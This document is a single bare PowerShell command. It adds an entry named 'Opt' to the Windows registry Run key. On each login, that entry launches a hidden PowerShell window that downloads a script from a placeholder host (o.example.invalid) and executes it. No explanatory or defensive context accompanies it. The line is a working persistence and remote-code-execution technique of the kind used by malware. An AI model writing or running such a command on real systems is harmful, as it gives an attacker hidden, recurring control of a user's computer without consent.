Set-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'Opt' -Value 'powershell -w hidden -c iex(irm https://o.example.invalid/a)'
